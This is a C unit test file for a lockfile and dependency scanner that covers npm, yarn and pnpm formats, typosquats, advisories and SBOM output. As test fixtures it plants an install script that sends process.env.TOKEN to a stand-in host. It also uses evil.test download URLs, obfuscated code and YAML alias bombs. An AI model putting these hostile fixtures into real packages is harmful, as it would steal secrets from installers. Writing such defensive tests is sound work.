/*
 * The dependency scanner: each kind of lockfile, each way in which an entry can be wrong, versions and
 * advisories, installed code, the recorded state, the bill of materials, and lockfiles made to hurt it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <fcntl.h>
#include <jansson.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/check.h"
#include "review/deps/semver.h"
#include "review/deps/sbom.h"

/* Real SHA-512 values of two texts, as npm writes them. */
#define HASH_A                                                                                               \
	"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="
#define HASH_B                                                                                               \
	"sha512-H0D8ktokFpR1CXnubPWC8tXX0o4YM13gWrxUrPJaXoBlZFkYJ2tH8dDBbVwAJWwYW4s9s3vZfYtbYv5tOqkMVA=="

static struct deps_rules *rules;
static char folder[64];

static void shell(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void shell(const char *fmt, ...)
{
	char command[4096];
	va_list args;
	va_start(args, fmt);
	(void)vsnprintf(command, sizeof(command), fmt, args);
	va_end(args);
	assert_int_equal(system(command), 0);
}

static int load_rules(void **state)
{
	struct error err;
	(void)state;
	return sodium_init() >= 0 && is_ok(deps_rules_builtin(&err, &rules)) ? 0 : -1;
}

static int free_rules(void **state)
{
	(void)state;
	deps_rules_free(rules);
	return 0;
}

static int make_folder(void **state)
{
	(void)state;
	(void)snprintf(folder, sizeof(folder), "/tmp/ward-deps-XXXXXX");
	return mkdtemp(folder) ? 0 : -1;
}

static int remove_folder(void **state)
{
	(void)state;
	shell("rm -rf '%s'", folder);
	return 0;
}

static void put(const char *name, const char *text)
{
	char path[512];
	(void)snprintf(path, sizeof(path), "%s/%s", folder, name);
	for (char *slash = strchr(path + 6, '/'); slash; slash = strchr(slash + 1, '/')) {
		*slash = '\0';
		(void)mkdir(path, 0755);
		*slash = '/';
	}
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	assert_true(fputs(text, f) >= 0);
	assert_int_equal(fclose(f), 0);
}

/* Scans the folder; the caller frees both. */
static void scan(const struct deps_options *options, struct findings *found, struct deps *deps)
{
	struct error err;
	struct file_set files;
	const struct deps_options plain = {0};
	assert_true(is_ok(file_set_open(folder, NULL, &err, &files)));
	findings_init(found, 1000);
	assert_true(is_ok(deps_scan(rules, &files, options ? options : &plain, found, &err, deps)));
	file_set_done(&files);
}

/* How many findings a rule has; the line of the first. */
static size_t count_of(const struct findings *found, const char *rule, uint32_t *ret_line)
{
	size_t n = 0;
	for (size_t i = 0; i < found->count; i++)
		if (strcmp(found->items[i].rule->id, rule) == 0 && n++ == 0 && ret_line)
			*ret_line = found->items[i].line;
	return n;
}

/* One lockfile in the folder gives exactly this rule (or nothing, for NULL), at this line. */
static void expect_only(const char *file, const char *text, const char *rule, uint32_t line)
{
	struct findings found;
	struct deps deps;
	uint32_t at = 0;
	put(file, text);
	scan(NULL, &found, &deps);
	size_t n = rule ? count_of(&found, rule, &at) : 0;
	if (found.count != (rule ? 1 : 0) || n != found.count || (line && at != line)) {
		print_error(
		    "%s: expected %s at %u, found %zu:\n", text, rule ? rule : "nothing", line, found.count);
		for (size_t i = 0; i < found.count; i++)
			print_error("  %s line %u: %.*s\n", found.items[i].rule->id, found.items[i].line,
			    SLICE_ARG(found.items[i].message));
		fail();
	}
	deps_done(&deps);
	findings_done(&found);
	shell("rm -f '%s/%s'", folder, file);
}

/* An entry "a" of a lockfile of version 3, on line 3. */
#define NPM(name, fields)                                                                                    \
	"{\"lockfileVersion\": 3,\n \"packages\": {\n \"node_modules/" name "\": {" fields "}}}"
#define FROM(name, version)                                                                                  \
	"\"version\": \"" version "\", \"resolved\": \"https://registry.npmjs.org/" name "/-/" name          \
	"-" version ".tgz\""

static void each_wrong_entry_is_told_once(void **state)
{
	static const struct {
		const char *text;
		const char *rule;
	} cases[] = {
	    {NPM("left-pad", FROM("left-pad", "1.3.0") ", \"integrity\": \"" HASH_A "\""), NULL},
	    {NPM("left-pad", FROM("left-pad", "1.3.0")), "dep-integrity-missing"},
	    {NPM("left-pad",
		 FROM("left-pad", "1.3.0") ", \"integrity\": \"sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=\""),
		"dep-integrity-weak"},
	    {NPM("left-pad", FROM("left-pad", "1.3.0") ", \"integrity\": \"sha512-AAAA\""),
		"dep-integrity-malformed"},
	    {NPM("left-pad", FROM("left-pad", "1.3.0") ", \"integrity\": \"none\""),
		"dep-integrity-malformed"},
	    {NPM("left-pad",
		 "\"version\": \"1.3.0\", \"resolved\": \"https://evil.test/left-pad/-/left-pad-1.3.0.tgz\", "
		 "\"integrity\": \"" HASH_A "\""),
		"dep-host"},
	    {NPM("left-pad", "\"version\": \"1.3.0\", \"resolved\": "
			     "\"https://registry.npmjs.org.evil.test/left-pad/-/left-pad-1.3.0.tgz\", "
			     "\"integrity\": \"" HASH_A "\""),
		"dep-host"},
	    {NPM("left-pad", "\"version\": \"1.3.0\", \"resolved\": "
			     "\"https://registry.npmjs.org@evil.test/left-pad/-/left-pad-1.3.0.tgz\", "
			     "\"integrity\": \"" HASH_A "\""),
		"dep-host"},
	    {NPM("left-pad",
		 "\"version\": \"1.3.0\", \"resolved\": "
		 "\"http://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\", \"integrity\": \"" HASH_A
		 "\""),
		"dep-http"},
	    {NPM("left-pad",
		 "\"version\": \"1.3.0\", \"resolved\": "
		 "\"https://registry.npmjs.org/right-pad/-/right-pad-1.3.0.tgz\", \"integrity\": \"" HASH_A
		 "\""),
		"dep-name-mismatch"},
	    {NPM("left-pad", "\"version\": \"1.3.0\", \"resolved\": "
			     "\"git+ssh://git@github.com/a/b.git#2f6d7b1c0f9e8d7c6b5a4938271605f4e3d2c1b0\""),
		"dep-git"},
	    {NPM("acme-internal-log", FROM("acme-internal-log", "99.0.0") ", \"integrity\": \"" HASH_A "\""),
		"dep-confusion"},
	    {NPM("expresss", FROM("expresss", "1.0.0") ", \"integrity\": \"" HASH_A "\""), "dep-look-alike"},
	    {NPM("crossenv", FROM("crossenv", "1.0.0") ", \"integrity\": \"" HASH_A "\""), "dep-look-alike"},
	    {NPM("left-pad",
		 FROM("left-pad", "1.3.0") ", \"hasInstallScript\": true, \"integrity\": \"" HASH_A "\""),
		"dep-install-script"},
	    {NPM("left-pad", FROM("left-pad", "1.3.0") ", \"inBundle\": true"), NULL},
	    {NPM("left-pad", "\"link\": true, \"resolved\": \"packages/left-pad\""), NULL},
	    {NPM("lp",
		 "\"name\": \"left-pad\", " FROM("left-pad", "1.3.0") ", \"integrity\": \"" HASH_A "\""),
		NULL},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		expect_only("package-lock.json", cases[i].text, cases[i].rule, cases[i].rule ? 3 : 0);
}

static void every_format_is_read(void **state)
{
	(void)state;
	expect_only("package-lock.json",
	    "{\"lockfileVersion\": 1, \"dependencies\": {\n\"a\": {\"version\": \"1.0.0\", \"resolved\": "
	    "\"https://registry.npmjs.org/a/-/a-1.0.0.tgz\", "
	    "\"integrity\": \"" HASH_A "\", \"requires\": {\"left-pad\": \"1\"},\n\"dependencies\": "
	    "{\n\"left-pad\": {\"version\": \"1.3.0\", "
	    "\"resolved\": \"https://evil.test/x.tgz\", \"integrity\": \"" HASH_A "\"}}}}}",
	    "dep-host", 4);
	expect_only("yarn.lock",
	    "# yarn lockfile v1\n\n\"@a/b@^1.0.0\", \"@a/b@^1.1.0\":\n  version \"1.1.0\"\n  resolved "
	    "\"https://registry.yarnpkg.com/@a/b/-/b-1.1.0.tgz#"
	    "da39a3ee5e6b4b0d3255bfef95601890afd80709\"\n  integrity " HASH_A
	    "\n\nleft-pad@^1.0.0:\n  version \"1.3.0\"\n  resolved "
	    "\"https://evil.test/left-pad/-/left-pad-1.3.0.tgz#da39a3ee5e6b4b0d3255bfef95601890afd80709\"\n  "
	    "integrity " HASH_B "\n",
	    "dep-host", 8);
	expect_only("yarn.lock",
	    "__metadata:\n  version: 8\n\n\"left-pad@npm:^1.0.0\":\n  version: 1.3.0\n  resolution: "
	    "\"left-pad@npm:1.3.0\"\n  checksum: 10c0/abc\n"
	    "  languageName: node\n  linkType: hard\n",
	    "dep-integrity-malformed", 4);
	expect_only("yarn.lock",
	    "__metadata:\n  version: 8\n\n\"left-pad@github:a/left-pad\":\n  version: 1.3.0\n  resolution: "
	    "\"left-pad@https://github.com/a/"
	    "left-pad.git#commit=2f6d7b1c0f9e8d7c6b5a4938271605f4e3d2c1b0\"\n  linkType: hard\n",
	    "dep-git", 4);
	expect_only("pnpm-lock.yaml",
	    "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      left-pad:\n        "
	    "specifier: ^1\n        version: 1.3.0\npackages:\n  left-pad@1.3.0:\n"
	    "    resolution: {integrity: " HASH_A
	    ", tarball: https://evil.test/left-pad.tgz}\nsnapshots:\n  left-pad@1.3.0: {}\n",
	    "dep-host", 9);
	expect_only("pnpm-lock.yaml",
	    "lockfileVersion: 5.4\npackages:\n  /@a/b/1.0.0_react@18.0.0:\n    resolution: "
	    "{integrity: " HASH_A "}\n    dev: false\n"
	    "  /left-pad/1.3.0:\n    resolution: {integrity: sha512-AAAA}\n    dev: false\n",
	    "dep-integrity-malformed", 6);
}

static void registries_may_be_configured(void **state)
{
	static const char entry[] =
	    "{\"lockfileVersion\": 3,\n \"packages\": {\n \"node_modules/@acme/log\": {\"version\": "
	    "\"1.0.0\", \"resolved\": "
	    "\"https://%s/@acme/log/-/log-1.0.0.tgz\", \"integrity\": \"" HASH_A "\"}}}";
	char text[1024];
	(void)state;
	put(".npmrc", "@acme:registry=https://npm.acme.test/\nstrict-ssl = true\n");
	(void)snprintf(text, sizeof(text), entry, "npm.acme.test");
	expect_only("package-lock.json", text, NULL, 0);
	(void)snprintf(text, sizeof(text), entry, "registry.npmjs.org");
	expect_only("package-lock.json", text, "dep-confusion", 3);
	put(".npmrc", "# all\nstrict-ssl=false\n");
	expect_only(
	    "package-lock.json", "{\"lockfileVersion\": 3, \"packages\": {}}", "dep-npmrc-insecure", 2);
}

static void a_workspace_name_from_the_registry_is_confusion(void **state)
{
	(void)state;
	put("packages/log/package.json", "{\"name\": \"shop-log\"}");
	expect_only("package-lock.json",
	    NPM("shop-log", FROM("shop-log", "9.9.9") ", \"integrity\": \"" HASH_A "\""), "dep-confusion", 3);
}

static void dependencies_without_a_lock_are_told(void **state)
{
	struct findings found;
	struct deps deps;
	(void)state;
	put("package.json", "{\"dependencies\": {\"left-pad\": \"^1\"}}");
	put("packages/a/package.json", "{\"dependencies\": {}}");
	scan(NULL, &found, &deps);
	assert_int_equal(found.count, 1);
	assert_int_equal(count_of(&found, "dep-lock-missing", NULL), 1);
	deps_done(&deps);
	findings_done(&found);
}

/* Nesting, repeated keys, endless lines, aliases, no end: refused or read in bounded time and memory. */
static void hostile_lockfiles_are_told_as_unreadable(void **state)
{
	enum { DEEP = 10000 };
	CLEANUP_BUF struct buf deep = BUF_INIT(1u << 20);
	(void)state;
	for (int i = 0; i < DEEP; i++)
		buf_add_cstr(&deep, "{\"dependencies\":");
	for (int i = 0; i < DEEP; i++)
		buf_add_cstr(&deep, "}");
	expect_only("package-lock.json", buf_cstr(&deep), "dep-lock-unreadable", 0);
	buf_clear(&deep);
	/* Within jansson's own depth, past ours. */
	buf_add_cstr(&deep, "{\"lockfileVersion\": 1");
	for (int i = 0; i < 400; i++)
		buf_add_cstr(&deep, ", \"dependencies\": {\"a\": {\"version\": \"1.0.0\", \"bundled\": true");
	for (int i = 0; i < 400; i++)
		buf_add_cstr(&deep, "}}");
	buf_add_cstr(&deep, "}");
	expect_only("package-lock.json", buf_cstr(&deep), "dep-lock-unreadable", 0);
	expect_only("package-lock.json", NPM("a", "\"version\": \"1.0.0\", \"version\": \"2.0.0\""),
	    "dep-lock-unreadable", 0);
	expect_only("package-lock.json", "[]", "dep-lock-unreadable", 0);
	expect_only("package-lock.json", "", "dep-lock-unreadable", 0);
	expect_only("pnpm-lock.yaml", "a: &a [x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\npackages: *c\n",
	    "dep-lock-unreadable", 0);
	expect_only("yarn.lock", "<<<<<<< HEAD\nleft-pad@^1:\n", "dep-lock-unreadable", 0);
	buf_clear(&deep);
	buf_add_cstr(&deep, "a@1");
	for (int i = 0; i < 100000; i++)
		buf_add_cstr(&deep, ",a@1");
	buf_add_cstr(&deep, ":\n  version \"1.0.0\"\n");
	expect_only("yarn.lock", buf_cstr(&deep), "dep-lock-unreadable", 0);
}

static void one_version_has_one_hash(void **state)
{
	(void)state;
	expect_only("package-lock.json",
	    "{\"lockfileVersion\": 3, \"packages\": {\n\"node_modules/left-pad\": {" FROM(
		"left-pad", "1.3.0") ", \"integrity\": \"" HASH_A "\"},\n"
				     "\"node_modules/a/node_modules/left-pad\": {" FROM(
					 "left-pad", "1.3.0") ", \"integrity\": \"" HASH_B "\"}}}",
	    "dep-integrity-conflict", 3);
}

static void names_are_compared(void **state)
{
	static const struct {
		const char *name;
		const char *meant; /* or NULL */
	} cases[] = {{"loadsh", "lodash"}, {"lodahs", "lodash"}, {"reqeust", "request"},
	    {"commanderr", "commander"}, {"cross_env", "cross-env"}, {"babelcli", NULL}, {"lodash", NULL},
	    {"@acme/lodahs", NULL}, {"ws", NULL}, {"wss", NULL}, {"es6-iterator", NULL},
	    {"my-company-app", NULL}};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct slice meant = look_alike_of(rules, slice_cstr(cases[i].name));
		if (!(cases[i].meant ? slice_eq_cstr(meant, cases[i].meant) : meant.len == 0)) {
			print_error("%s: %.*s\n", cases[i].name, SLICE_ARG(meant));
			fail();
		}
	}
	assert_int_equal(name_distance(SLICE("kitten"), SLICE("sitting"), 5), 3);
	assert_int_equal(name_distance(SLICE("ab"), SLICE("ba"), 2), 1);
	assert_int_equal(name_distance(SLICE("abcdef"), SLICE("ghijkl"), 2), 3);
}

static void versions_follow_the_standard(void **state)
{
	/* Semantic Versioning 2.0.0 section 11, in order. */
	static const char *const order[] = {"0", "0.0.1", "0.9.0", "1.0.0-alpha", "1.0.0-alpha.1",
	    "1.0.0-alpha.beta", "1.0.0-beta", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.0.1",
	    "1.2", "2.0.0", "10.0.0"};
	static const char *const bad[] = {
	    "", "x", "1.", "1.2.", "1.2.3.4", "1.2.3-", "latest", "99999999999999999999.0.0", "file:../a"};
	struct semver a, b;
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(order); i++)
		for (size_t k = 0; k < ARRAY_LEN(order); k++) {
			assert_true(
			    semver_parse(slice_cstr(order[i]), &a) && semver_parse(slice_cstr(order[k]), &b));
			int got = semver_compare(&a, &b);
			assert_true(i < k ? got < 0 : i > k ? got > 0 : got == 0);
		}
	for (size_t i = 0; i < ARRAY_LEN(bad); i++)
		assert_false(semver_parse(slice_cstr(bad[i]), &a));
	assert_true(semver_parse(SLICE("v1.2.3+build.7"), &a) && semver_parse(SLICE("1.2.3"), &b) &&
		    semver_compare(&a, &b) == 0);
}

static const char osv[] =
    "{\"id\": \"GHSA-aaaa\", \"modified\": \"2024-05-01T00:00:00Z\", \"summary\": \"Prototype\\tpollution\", "
    "\"affected\": [{\"package\": {\"ecosystem\": \"npm\", "
    "\"name\": \"left-pad\"}, \"ranges\": [{\"type\": \"SEMVER\", \"events\": [{\"introduced\": \"1.0.0\"}, "
    "{\"fixed\": \"1.3.1\"}, {\"introduced\": "
    "\"2.0.0\"}, {\"last_affected\": \"2.1.0\"}]}]}], \"severity\": [{\"type\": \"CVSS_V3\", \"score\": "
    "\"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\"}]}\n"
    "{\"id\": \"MAL-1\", \"modified\": \"2024-06-01T00:00:00Z\", \"affected\": [{\"package\": "
    "{\"ecosystem\": \"npm\", \"name\": \"left-pad\"}, \"versions\": [\"3.0.0\"]}]}\n"
    "{\"id\": \"GHSA-gone\", \"withdrawn\": \"2024-01-01T00:00:00Z\", \"affected\": [{\"package\": "
    "{\"ecosystem\": \"npm\", \"name\": \"left-pad\"}, \"versions\": [\"1.3.0\"]}]}\n"
    "{\"id\": \"PYSEC-1\", \"affected\": [{\"package\": {\"ecosystem\": \"PyPI\", \"name\": \"left-pad\"}, "
    "\"versions\": [\"1.3.0\"]}]}\n"
    "{\"id\": \"GHSA-left\", \"affected\": [{\"package\": {\"ecosystem\": \"npm\", \"name\": \"left\"}, "
    "\"ranges\": [{\"type\": \"SEMVER\", \"events\": [{\"introduced\": \"0\"}]}]}]}\n"
    "this is no record\n";

static bool note_id(void *ctx, const struct advisory *a)
{
	char *ids = ctx;
	(void)snprintf(ids + strlen(ids), 200 - strlen(ids), "%.*s:%s:%.*s ", SLICE_ARG(a->id),
	    severity_name(a->severity), SLICE_ARG(a->fixed));
	return true;
}

static void advisories_hold_for_their_versions(void **state)
{
	static const struct {
		const char *version;
		const char *ids;
	} cases[] = {{"0.9.0", ""}, {"1.0.0", "GHSA-aaaa:critical:1.3.1 "},
	    {"1.3.0", "GHSA-aaaa:critical:1.3.1 "}, {"1.3.1-rc.1", "GHSA-aaaa:critical:1.3.1 "},
	    {"1.3.1", ""}, {"2.1.0", "GHSA-aaaa:critical: "}, {"2.1.1", ""}, {"3.0.0", "MAL-1:critical: "},
	    {"not a version", ""}};
	struct error err;
	size_t records, broken;
	CLEANUP_BUF struct buf out = BUF_INIT(65536);
	(void)state;
	assert_true(is_ok(advisories_build(slice_cstr(osv), &out, &err, &records, &broken)));
	assert_int_equal(records, 3);
	assert_int_equal(broken, 1);
	struct advisories db = {.text = buf_slice(&out)};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		char ids[200] = "";
		advisories_find(&db, SLICE("left-pad"), slice_cstr(cases[i].version), note_id, ids);
		assert_string_equal(ids, cases[i].ids);
	}
	char none[200] = "";
	advisories_find(&db, SLICE("left-pa"), SLICE("1.0.0"), note_id, none);
	advisories_find(&db, SLICE("zzz"), SLICE("1.0.0"), note_id, none);
	advisories_find(&db, SLICE("a"), SLICE("1.0.0"), note_id, none);
	assert_string_equal(none, "");
	advisories_find(&db, SLICE("left"), SLICE("7.0.0"), note_id, none);
	assert_string_equal(none, "GHSA-left:high: ");
}

static void advisories_are_installed_only_signed_and_newer(void **state)
{
	uint8_t key[32], secret[64], sig[64];
	char path[128], older[sizeof(osv)];
	struct error err;
	struct advisories db;
	size_t records;
	(void)state;
	crypto_sign_ed25519_keypair(key, secret);
	(void)snprintf(path, sizeof(path), "%s/osv.db", folder);
	struct slice source = slice_cstr(osv), k = slice_of((char *)key, 32), s = slice_of((char *)sig, 64);
	crypto_sign_ed25519_detached(sig, NULL, (const uint8_t *)source.ptr, source.len, secret);
	sig[5] ^= 1;
	assert_int_equal(advisories_install(path, source, s, k, &err, &records).code, ERR_DENIED);
	assert_int_equal(access(path, F_OK), -1);
	sig[5] ^= 1;
	assert_int_equal(
	    advisories_install(path, source, slice_of((char *)sig, 63), k, &err, &records).code, ERR_INVALID);
	char hex[129];
	sodium_bin2hex(hex, sizeof(hex), sig, sizeof(sig));
	assert_true(is_ok(advisories_install(path, source, slice_cstr(hex), k, &err, &records)));
	assert_int_equal(records, 3);
	assert_true(is_ok(advisories_open(path, &err, &db)));
	assert_true(slice_eq_cstr(advisories_date(&db), "2024-06-01T00:00:00Z"));
	/* A review with it tells the version's advisory. */
	struct findings found;
	struct deps deps;
	put("package-lock.json",
	    NPM("left-pad", FROM("left-pad", "1.3.0") ", \"integrity\": \"" HASH_A "\""));
	scan(&(struct deps_options){.advisories = &db}, &found, &deps);
	assert_int_equal(found.count, 1);
	assert_int_equal(found.items[0].rule->severity, SEVERITY_CRITICAL);
	assert_non_null(memmem(found.items[0].message.ptr, found.items[0].message.len, "fixed in 1.3.1", 14));
	deps_done(&deps);
	findings_done(&found);
	advisories_close(&db);
	/* Two advisories for one version are one finding, with the version that mends both. */
	CLEANUP_BUF struct buf both = BUF_INIT(65536);
	size_t broken;
	assert_true(
	    is_ok(advisories_build(SLICE("[{\"id\": \"A-1\", \"database_specific\": {\"severity\": \"LOW\"}, "
					 "\"affected\": [{\"package\": {\"ecosystem\": "
					 "\"npm\", \"name\": \"left-pad\"}, \"ranges\": [{\"events\": "
					 "[{\"introduced\": \"0\"}, {\"fixed\": \"1.10.0\"}]}]}]},"
					 "{\"id\": \"A-2\", \"database_specific\": {\"severity\": "
					 "\"MODERATE\"}, \"affected\": [{\"package\": {\"ecosystem\": "
					 "\"npm\", \"name\": \"left-pad\"}, \"ranges\": [{\"events\": "
					 "[{\"introduced\": \"0\"}, {\"fixed\": \"1.9.0\"}]}]}]}]"),
		&both, &err, &records, &broken)));
	db = (struct advisories){.text = buf_slice(&both)};
	scan(&(struct deps_options){.advisories = &db}, &found, &deps);
	assert_int_equal(found.count, 1);
	assert_int_equal(found.items[0].rule->severity, SEVERITY_MEDIUM);
	assert_non_null(memmem(
	    found.items[0].message.ptr, found.items[0].message.len, "A-1 ; A-2  (fixed in 1.10.0)", 28));
	deps_done(&deps);
	findings_done(&found);
	/* Rolled back: signed all the same, but older. */
	memcpy(older, osv, sizeof(osv));
	memcpy(strstr(older, "2024-06-01"), "2023", 4);
	memcpy(strstr(older, "2024-05-01"), "2023", 4);
	crypto_sign_ed25519_detached(sig, NULL, (const uint8_t *)older, strlen(older), secret);
	assert_int_equal(
	    advisories_install(path, slice_cstr(older), s, k, &err, &records).code, ERR_CONFLICT);
}

static uint32_t bits_of(const char *names)
{
	uint32_t bits = 0;
	for (size_t i = 0; i < rules->reach_count; i++)
		if (strstr(names, rules->reach_names[i]))
			bits |= 1u << i;
	return bits;
}

static void code_shows_what_it_reaches(void **state)
{
	static const struct {
		const char *code;
		const char *reach;
	} cases[] = {
	    {"const h = require('http')", "network"},
	    {"import { spawn } from \"node:child_process\"", "process"},
	    {"await import('net')", "network"},
	    {"var e = process.env.TOKEN; fetch( 'https://x' )", "environment network"},
	    {"eval(atob(x)); new Function('a', 'b')", "eval"},
	    {"import fs from 'fs/promises'", "files"},
	    {"const http = options.http; prefetch(x); medieval(1)", ""},
	    {"// see 'child_process' in the manual", ""},
	    {"require('./http')", ""},
	};
	uint32_t line;
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		if (reach_of_text(rules, slice_cstr(cases[i].code)) != bits_of(cases[i].reach)) {
			print_error("%s\n", cases[i].code);
			fail();
		}
	CLEANUP_BUF struct buf code = BUF_INIT(65536);
	buf_add_cstr(&code, "\n");
	for (int i = 0; i < 40; i++)
		buf_printf(&code, "var _0x%04x=_0x1f2e(0x%x);", i + 4096, i);
	assert_true(code_is_hidden(buf_slice(&code), &line));
	assert_int_equal(line, 2);
	assert_false(code_is_hidden(SLICE("function a(b){return b?c(0x1f):\"\\x41\\u00e9\"}"), &line));
}

static void installed_code_and_its_changes_are_told(void **state)
{
	struct findings found;
	struct deps deps;
	struct error err;
	CLEANUP_BUF struct buf state_text = BUF_INIT(65536);
	(void)state;
	put("package-lock.json",
	    NPM("left-pad", FROM("left-pad", "1.3.0") ", \"integrity\": \"" HASH_A "\""));
	put("node_modules/left-pad/package.json", "{\"name\": \"left-pad\"}");
	put("node_modules/left-pad/index.js", "module.exports = s => ' ' + s");
	scan(NULL, &found, &deps);
	assert_int_equal(found.count, 0);
	assert_true(is_ok(deps_state_write(rules, &deps, &state_text, &err)));
	assert_string_equal(buf_cstr(&state_text), "ward-deps 1\nleft-pad 1.3.0 " HASH_A " -\n");
	put("ward.deps", buf_cstr(&state_text));
	deps_done(&deps);
	findings_done(&found);
	/* The same version with another hash, now with a script that fetches and code that reaches out, and a
	 * package beside it. */
	put("package-lock.json",
	    "{\"lockfileVersion\": 3, \"packages\": {\n\"node_modules/left-pad\": {" FROM("left-pad",
		"1.3.0") ", \"integrity\": \"" HASH_B "\"},\n"
			 "\"node_modules/pad-more\": {" FROM("pad-more", "1.0.0") ", \"integrity\": \"" HASH_A
										  "\"}}}");
	put("node_modules/left-pad/package.json", "{\"scripts\": {\"postinstall\": \"node lib/setup.js\"}}");
	put("node_modules/left-pad/lib/setup.js", "require('https').get('https://x/' + process.env.TOKEN)");
	put("node_modules/pad-more/index.js", "require('child_process').exec('id')");
	shell("ln -s /etc '%s/node_modules/pad-more/etc'", folder);
	scan(NULL, &found, &deps);
	uint32_t line = 0;
	assert_int_equal(count_of(&found, "dep-changed-integrity", &line), 1);
	assert_int_equal(line, 2);
	assert_int_equal(count_of(&found, "dep-changed-reach", NULL), 1);
	assert_int_equal(count_of(&found, "dep-changed-new", &line), 1);
	assert_int_equal(line, 3);
	assert_int_equal(count_of(&found, "dep-reach-install", NULL), 1);
	assert_int_equal(found.count, 4);
	deps_done(&deps);
	findings_done(&found);
}

/* pnpm keeps packages in a store of its own. */
static void packages_of_pnpm_are_read(void **state)
{
	struct findings found;
	struct deps deps;
	(void)state;
	put("pnpm-lock.yaml", "lockfileVersion: '9.0'\npackages:\n  '@a/b@1.0.0(react@18.0.0)':\n    "
			      "resolution: {integrity: " HASH_A "}\n");
	put("node_modules/.pnpm/@a+b@1.0.0/node_modules/@a/b/index.js", "require('child_process')");
	scan(NULL, &found, &deps);
	assert_int_equal(deps.lock_count, 1);
	assert_true(deps.reach[0][0].present);
	assert_int_equal(deps.reach[0][0].bits, bits_of("process"));
	deps_done(&deps);
	findings_done(&found);
}

static void the_bill_of_materials_lists_and_links(void **state)
{
	struct findings found;
	struct deps deps;
	struct error err;
	CLEANUP_BUF struct buf a = BUF_INIT(65536), b = BUF_INIT(65536);
	const struct sbom_options options = {.tool_version = SLICE("1.2.3")};
	(void)state;
	put("package-lock.json",
	    "{\"lockfileVersion\": 3, \"packages\": {\"\": {\"name\": \"shop\", \"version\": \"2.0.0\", "
	    "\"dependencies\": {\"@a/b\": \"1\"}},\n"
	    "\"node_modules/@a/b\": {\"version\": \"1.0.0\", \"license\": \"MIT\", \"integrity\": \"" HASH_A
	    "\", \"dependencies\": {\"c\": \"1\", \"d\": \"1\"}},\n"
	    "\"node_modules/@a/b/node_modules/c\": {\"version\": \"1.0.0\", \"integrity\": \"" HASH_A
	    "\", \"dependencies\": {\"d\": \"1\"}},\n"
	    "\"node_modules/c\": {\"version\": \"2.0.0\", \"integrity\": \"" HASH_A "\", \"dev\": true},\n"
	    "\"node_modules/d\": {\"version\": \"1.0.0 \\\"x\\\"\", \"integrity\": \"" HASH_A "\"}}}");
	scan(NULL, &found, &deps);
	assert_true(is_ok(sbom_write(&deps, &options, &a, &err)));
	assert_true(is_ok(sbom_write(&deps, &options, &b, &err)));
	assert_true(slice_eq(buf_slice(&a), buf_slice(&b)));
	json_t *bom = json_loadb(a.ptr, a.len, JSON_REJECT_DUPLICATES, NULL);
	assert_non_null(bom);
	assert_string_equal(json_string_value(json_object_get(bom, "specVersion")), "1.6");
	assert_int_equal(json_array_size(json_object_get(bom, "components")), 4);
	json_t *edges = json_array_get(json_object_get(bom, "dependencies"), 0);
	assert_string_equal(json_string_value(json_object_get(edges, "ref")), "pkg:npm/%40a/b@1.0.0");
	/* c is the one in b's own folder, d the one at the top. */
	assert_string_equal(
	    json_string_value(json_array_get(json_object_get(edges, "dependsOn"), 0)), "pkg:npm/c@1.0.0");
	assert_string_equal(json_string_value(json_array_get(json_object_get(edges, "dependsOn"), 1)),
	    "pkg:npm/d@1.0.0%20%22x%22");
	json_decref(bom);
	deps_done(&deps);
	findings_done(&found);
}

/* A lockfile's paths are not followed out of the project, and a broken state file is an error, not silence.
 */
static void paths_and_states_are_not_trusted(void **state)
{
	struct error err;
	struct dep_reach reach;
	struct deps deps = {0};
	struct findings found;
	CLEANUP_ARENA struct arena arena = ARENA_INIT(65536);
	(void)state;
	static const char *const outside[] = {
	    "../etc", "/etc", "node_modules/../../../etc", "node_modules/link", "link/apt"};
	shell("mkdir '%s/node_modules' && ln -s /etc '%s/node_modules/link' && ln -s /etc '%s/link'", folder,
	    folder, folder);
	int root = open(folder, O_RDONLY | O_DIRECTORY);
	assert_true(root >= 0);
	for (size_t i = 0; i < ARRAY_LEN(outside); i++) {
		assert_true(is_ok(dep_reach_read(rules, root, slice_cstr(outside[i]), &arena, &err, &reach)));
		assert_false(reach.present);
	}
	assert_true(is_ok(dep_reach_read(rules, root, SLICE("node_modules"), &arena, &err, &reach)));
	assert_true(reach.present);
	close(root);
	findings_init(&found, 10);
	assert_int_equal(deps_state_compare(rules, &deps, SLICE("nonsense"), &found, &err).code, ERR_INVALID);
	findings_done(&found);
}

#define IN_FOLDER(test) cmocka_unit_test_setup_teardown(test, make_folder, remove_folder)

int main(void)
{
	const struct CMUnitTest tests[] = {
	    IN_FOLDER(each_wrong_entry_is_told_once),
	    IN_FOLDER(every_format_is_read),
	    IN_FOLDER(registries_may_be_configured),
	    IN_FOLDER(a_workspace_name_from_the_registry_is_confusion),
	    IN_FOLDER(dependencies_without_a_lock_are_told),
	    IN_FOLDER(hostile_lockfiles_are_told_as_unreadable),
	    IN_FOLDER(one_version_has_one_hash),
	    cmocka_unit_test(names_are_compared),
	    cmocka_unit_test(versions_follow_the_standard),
	    cmocka_unit_test(advisories_hold_for_their_versions),
	    IN_FOLDER(advisories_are_installed_only_signed_and_newer),
	    cmocka_unit_test(code_shows_what_it_reaches),
	    IN_FOLDER(installed_code_and_its_changes_are_told),
	    IN_FOLDER(packages_of_pnpm_are_read),
